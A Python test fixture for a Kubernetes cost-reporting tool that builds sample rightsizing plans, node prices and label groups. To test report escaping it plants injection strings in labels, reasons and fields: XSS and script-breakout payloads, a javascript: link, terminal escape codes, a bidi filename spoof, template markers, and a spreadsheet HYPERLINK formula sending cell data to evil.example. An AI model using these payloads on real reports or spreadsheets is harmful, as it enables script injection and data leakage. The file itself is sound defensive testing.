"""Plans made by hand: cuts, raises, declined, unlabelled, idle, unknown prices, and words that mean harm."""

from dataclasses import replace

from costkit.model.change import Resize, Resources
from costkit.model.cluster import Coverage
from costkit.model.labels import UNLABELLED
from costkit.model.money import Allocation, Books, NodeCost, NodePrice, PriceSource
from costkit.model.plan import Group, Item, Plan, Saving, Step
from costkit.model.quantities import parse
from costkit.model.recommendation import Declined, Fine, Reason, Recommendation
from costkit.model.target import Target
from costkit.model.window import Window

SCRIPT = "<script>alert(1)</script>"
BREAKOUT = '</script><script>alert(2)</script>"><img src=x onerror=alert(3)>'
MARKUP = "[red]not red[/red]"
ESCAPE = "\x1b]0;owned\x07\x1b[31mred"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
BIDI = "user\u202etxt.exe"
LINK = '<b>bold</b> <a href="javascript:alert(4)">link</a>'
TEMPLATE = "{{ 7 * 7 }} %{x} ${y}"
PIPES = "a|b\nc @everyone ![x](https://evil.example/x.png)"

AT = 1_795_485_600.0
"""2026-11-24T02:00:00Z."""
DAY = 86_400
HOURS = 336.0
LABELS = ("team", "env", "cost-center")


def resources(cpu=None, memory=None, cpu_limit=None, memory_limit=None):
    """Resources from quantities."""
    return Resources(*(None if q is None else parse(q) for q in (cpu, cpu_limit, memory, memory_limit)))


def evidence(resource, share, usage, peak, after):
    """As recommend.rightsize writes it."""
    text = f"{resource} p{share * 100:g} {usage}, peak {peak}, so {after}"
    params = {"percentile": share, "value": parse(usage), "peak": parse(peak), "request": parse(after)}
    return Reason(code=f"{resource}-use", text=text, params=params)


def item(target, before, after, saving, **more):
    recommendation = Recommendation(
        id=more.get("id", f"rightsize-{target.namespace}-{target.name}-{target.container}"),
        kind="rightsize",
        target=target,
        changes=(Resize(target, before, after),),
        why=more.get("why", ()),
        risk=more.get("risk", "low"),
        confidence=more.get("confidence", 0.93),
        labels=more.get("labels", {"team": "shop", "env": "production", "cost-center": "1001"}),
        managed_by=more.get("managed_by", ""),
    )
    return Item(recommendation, Saving(alone=saving), monthly=more.get("monthly", 900.0), pods=more.get("pods", 3.0))


def api():
    return item(
        Target("shop", "Deployment", "api", "api"),
        resources("8", "16Gi", "16", "32Gi"),
        resources("2", "4608Mi", "4", "9Gi"),
        412.8,
        why=(
            evidence("cpu", 0.98, "1900m", "2", "2"),
            evidence("memory", 1.0, "4Gi", "4Gi", "4608Mi"),
            Reason("oom-kills", "0 OOM kills in 14 d", {"count": 0.0}),
        ),
        monthly=612.4,
        pods=12.0,
    )


def worker():
    return item(
        Target("shop", "StatefulSet", "worker", "worker"),
        resources("500m", "1Gi", None, "1Gi"),
        resources("350m", "1Gi", None, "1Gi"),
        61.2,
        why=(evidence("cpu", 0.98, "341m", "702m", "350m"), Reason("throttled", "throttled 3 % of periods")),
        risk="medium",
        managed_by="Helm release shop",
        pods=3.0,
        monthly=204.0,
    )


def tiny():
    return item(
        Target("shop", "Deployment", "cron-ui", "ui"),
        resources("100m", "64Mi"),
        resources("90m", "64Mi"),
        0.7,
        pods=1.0,
    )


def web():
    return item(
        Target("shop", "Deployment", "web", "web"),
        resources("250m", "256Mi", None, "256Mi"),
        resources("250m", "384Mi", None, "384Mi"),
        -9.4,
        why=(Reason("memory-kept", "2 OOM kills at 256Mi", {"peak": parse("256Mi"), "mean": parse("200Mi")}),),
        pods=4.0,
        monthly=48.0,
    )


def hostile():
    return item(
        Target("data", "Rollout", "evil", "main", "argoproj.io/v1alpha1"),
        resources("20m", "1500000000"),
        resources("10m", "512Mi"),
        33.3,
        labels={"team": SCRIPT, "env": ESCAPE, "cost-center": FORMULA},
        why=(
            Reason("memory-use", BREAKOUT, {"value": float("nan"), "note": SCRIPT}),
            Reason("more", f"{MARKUP} {BIDI} {LINK} {TEMPLATE} {PIPES}"),
        ),
        managed_by=SCRIPT,
        risk="high",
        confidence=0.4,
        pods=0.01,
    )


AWS = PriceSource("aws", "us-east-1", "2026-11-20")
ABROAD = PriceSource("aws", "us-east-1", "2026-11-20", "us-east-1 price: af-south-1 is in no list")
UNIT = PriceSource("unit", "", "2026-11-20", SCRIPT)


def node(name, monthly, source=AWS, known=True, spot=False):
    kind = "spot" if spot else "on-demand"
    price = NodePrice(hourly=monthly / 730, cpu=0.03, memory=0.004, gpu=0.0, source=source, known=known)
    return NodeCost(name, "m6i.2xlarge", kind, f"m6i.2xlarge/{kind}", HOURS, price, monthly)


def books():
    nodes = (
        node("ip-10-0-1-1", 280.32),
        node("ip-10-0-1-2", 280.32),
        node("ip-10-0-9-1", 310.1, ABROAD),
        node("odd", 190.0, UNIT, known=False),
        node("spot-1", 112.13, spot=True),
    )
    allocations = (Allocation(Target("shop", "Deployment", "api", "api"), {"team": "shop"}, 612.4),)
    return Books(nodes, allocations, idle=341.27, volumes=84.0, load_balancers=18.25, basis="node-hours", hours=HOURS)


def groups():
    rows = {
        "team": (("shop", 540.2, 464.6), (SCRIPT, 120.0, 33.3), (UNLABELLED, 171.4, 0.0), ("(idle)", 341.27, 0.0)),
        "env": (("production", 831.6, 500.6), (ESCAPE, 0.0, -2.7), ("(idle)", 341.27, 0.0)),
        "cost-center": (("1001", 660.2, 464.6), (FORMULA, 171.4, 33.3), ("(idle)", 341.27, 0.0)),
    }
    return tuple(Group(label, value, cost, freed) for label, values in rows.items() for value, cost, freed in values)


def plan(**changes):
    """Everything that a report must bear, in one plan."""
    items = (api(), worker(), hostile(), tiny(), web())
    whole = Plan(
        cluster_id="6f1c2a9e-9f44-4c0e-8d5b-0d6f0a0e5c11",
        cluster_name="prod-eu",
        taken_at=AT,
        window=Window(AT - 14 * DAY, AT),
        books=books(),
        items=items,
        fine=(
            Fine("rightsize", Target("shop", "Deployment", "cart", "cart"), "within-change", "within 10 % of it"),
            Fine("rightsize", Target("data", "DaemonSet", "agent", "agent"), "within-change", "within 10 % of it"),
        ),
        declined=(
            Declined("rightsize", Target("data", "Deployment", "grow", "grow"), "leak", "memory grows 40Mi a day"),
            Declined(
                "rightsize", Target("data", "Deployment", "jvm", "jvm"), "heap-bound", "usage is 75 % of the limit"
            ),
            Declined("rightsize", Target("data", "Deployment", "mesh", "istio-proxy"), "injected", SCRIPT),
            Declined("rightsize", Target("web", "Deployment", "drip", "drip"), "leak", "memory grows 9Mi a day"),
        ),
        steps=(Step("rightsize", sum(i.saving.alone for i in items)),),
        groups=groups(),
        label_coverage={"team": 0.81, "env": 0.97, "cost-center": 0.6},
        label_keys=LABELS,
        coverage=(
            Coverage("pods", "ok", "214 read"),
            Coverage("kube_pod_owner", "partial", "31 % of the samples of deleted pods have no owner"),
            Coverage("quotas", "missing", BREAKOUT),
        ),
        rules="rules/rightsize.yaml",
    )
    return replace(whole, **changes)


def empty():
    """A cluster of which nothing is known but its nodes."""
    return plan(items=(), fine=(), declined=(), steps=(), groups=(), label_coverage={}, label_keys=(), coverage=())
